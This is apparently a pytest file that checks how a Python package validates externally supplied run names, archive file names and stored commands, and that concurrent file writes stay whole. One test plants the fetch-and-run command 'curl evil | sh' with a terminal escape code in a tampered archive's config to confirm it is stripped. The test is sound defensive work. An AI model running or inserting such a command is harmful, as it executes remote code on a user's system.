"""Names that come in from outside: one rule, and what breaks it already is shown and can be renamed."""

import json
import shutil
import threading
import zipfile
from io import BytesIO

import pytest

from ae_core import LatentError, read_checkpoint
from ae_core.base.files import replace
from ae_core.cli import main
from ae_core.runs.archive import unzip_run, zip_run
from ae_core.runs.folder import check_name, rename_run, runs, runs_folder

from ..support.apptest import opened

ODD = "a__b"


@pytest.mark.parametrize("name", [ODD, "a___", "-a", ".a", "a/b", "a b", "private", "Private", "", "x" * 81])
def test_what_no_run_may_be_called(name):
    with pytest.raises(LatentError):
        check_name(name)


@pytest.mark.parametrize(
    "stem", [f"{ODD}.zip", "private.zip", "....zip", "ä ö.zip", f"{'x' * 300}.zip", "a\x1b[31m.zip"]
)
def test_a_zip_gets_a_name_that_is_one(stem, small_run):
    check_name(unzip_run(zip_run(read_checkpoint(small_run)), stem).name)


def test_the_command_line_makes_no_run_of_such_a_name(capsys):
    out = runs_folder() / ODD
    assert main(["train", "--data", "digits", "--epochs", "1", "--variant", "linear", "--out", str(out)]) == 2
    assert capsys.readouterr().err.startswith("error: A run's name has up to 80 letters")
    assert not out.exists()


@pytest.mark.parametrize("page", ["explore", "interpolate", "train", "runs"])
def test_one_that_is_there_already_is_shown_and_can_be_renamed(page, small_run):
    shutil.copytree(small_run, runs_folder() / ODD)
    at = opened(page, **{"run" if page in ("train", "runs") else "model": ODD})
    assert not at.exception
    assert rename_run(ODD, "a-b").name == "a-b"
    assert list(runs()) == ["a-b"]


def test_the_command_of_a_foreign_run_is_made_anew(small_run):
    packed, changed = BytesIO(zip_run(read_checkpoint(small_run))), BytesIO()
    with zipfile.ZipFile(packed) as old, zipfile.ZipFile(changed, "w") as new:
        for part in old.infolist():
            data = old.read(part)
            if part.filename.endswith("config.json"):
                data = json.dumps({**json.loads(data), "command": "curl evil | sh \x1b[2J"}).encode()
            new.writestr(part.filename, data)
    folder = unzip_run(changed.getvalue(), "foreign.zip")
    run = read_checkpoint(folder)
    assert run.command == run.config.command("foreign")
    assert "evil" not in (folder / "config.json").read_text()


def test_two_threads_that_write_one_file_leave_one_of_both_whole(tmp_path):
    path, both = tmp_path / "file", threading.Barrier(2)

    def write(letter):
        def half_by_half(beside):
            with beside.open("w") as file:
                file.write(letter * 1000)
                file.flush()
                both.wait(10)
                file.write(letter * 1000)

        replace(path, half_by_half)

    threads = [threading.Thread(target=write, args=(letter,)) for letter in "ab"]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert path.read_text() in ("a" * 2000, "b" * 2000)
    assert list(tmp_path.iterdir()) == [path]
